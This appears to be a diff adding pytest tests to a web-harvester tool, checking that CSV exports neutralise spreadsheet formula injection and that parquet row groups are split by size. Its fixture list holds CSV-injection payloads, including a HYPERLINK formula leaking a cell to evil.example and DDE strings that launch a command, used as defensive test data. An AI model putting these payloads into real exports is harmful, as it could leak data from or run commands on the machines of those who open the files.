@@ -129,3 +129,74 @@ def test_harvester_export_writes_the_file_named_by_its_suffix(stored, tmp_path) 
     refused = subprocess.run([str(VENV_BIN / "harvester"), "export", source.name, "-o", str(tmp_path / "x.xml")],
                              capture_output=True, text=True, timeout=120)
     assert refused.returncode == 2 and "--format jsonl|csv|parquet" in refused.stderr
+
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"click")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
+            "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "'=already quoted", "a plain title"]
+
+
+@pytest.fixture
+def formulas(configure_settings, mongo_server):
+    settings = configure_settings()
+    (settings.sources_dir / "export_shop.yaml").write_text(yaml.safe_dump(DOCUMENT))
+    source = SourceConfig.model_validate(DOCUMENT)
+    data = DataHandler(settings)
+    data.collection(source).drop()
+    rows = []
+    for number, title in enumerate(FORMULAS):
+        row = record(number + 1)
+        row.update(title=title, stock=-5 - number, tags=[title])
+        rows.append(row)
+    data.write(source, rows, "run-1", datetime(2026, 12, 1, 8, 0, tzinfo=UTC))
+    return source, data.collection(source)
+
+
+def csv_cells(path, column: str) -> list[str]:
+    import csv
+
+    with open(path, encoding="utf-8", newline="") as handle:
+        return [row[column] for row in csv.DictReader(handle)]
+
+
+def test_csv_cells_a_spreadsheet_would_run_as_formulas_are_escaped_and_read_back_exactly(formulas, tmp_path) -> None:
+    """A harvested title like =HYPERLINK(...) or +cmd|... was written as it came, and a spreadsheet opening the
+    export ran it; each gets a ' first (OWASP), numbers stay numbers, and read_csv gives back what was stored."""
+    source, collection = formulas
+    path = tmp_path / "out.csv"
+    with open(path, "wb") as out:
+        assert export_records(source, collection, "csv", out) == len(FORMULAS)
+    titles = csv_cells(path, "title")
+    assert titles == [f"'{title}" for title in FORMULAS[:-1]] + ["a plain title"]
+    assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in titles)
+    assert csv_cells(path, "stock")[0] == "-5"  # a number is never a formula
+    back = {row["url"]: row for row in read_csv(source, path)}
+    for document in collection.find():
+        assert back[document["url"]]["title"] == document["title"]
+        assert back[document["url"]]["tags"] == document["tags"]  # JSON lists begin with [: never a formula
+
+
+def test_csv_formulas_can_be_kept_raw_by_the_command(formulas, tmp_path) -> None:
+    source, _collection = formulas
+    target = tmp_path / "raw.csv"
+    done = subprocess.run([str(VENV_BIN / "harvester"), "export", source.name, "--csv-raw-formulas", "-o",
+                           str(target)], capture_output=True, text=True, timeout=120)
+    assert done.returncode == 0, done.stderr
+    assert sorted(csv_cells(target, "title")) == sorted(FORMULAS)
+    assert [row["title"] for row in read_csv(source, target, escaped_formulas=False)] == FORMULAS
+
+
+def test_parquet_row_groups_are_flushed_by_bytes_as_well_as_by_records(stored, monkeypatch, tmp_path) -> None:
+    """600 records of 0.4 MB were held in one 10,000-record row group (811 MB); a row group now also ends
+    at ROW_GROUP_BYTES of values (here made 1 MB, so 25 records of 0.3 MB need several)."""
+    import pyarrow.parquet as pq
+    from harvester.storage import exports
+
+    _settings, source, collection = stored
+    collection.update_many({}, {"$set": {"title": "x" * 300_000}})
+    monkeypatch.setattr(exports, "ROW_GROUP_BYTES", 1_000_000)
+    path = tmp_path / "big.parquet"
+    with open(path, "wb") as out:
+        assert export_records(source, collection, "parquet", out) == 25
+    groups = pq.ParquetFile(path).metadata.num_row_groups
+    assert groups >= 7, groups  # 4 records (1.2 MB) at most per group
+    assert len(read_parquet(path)) == 25
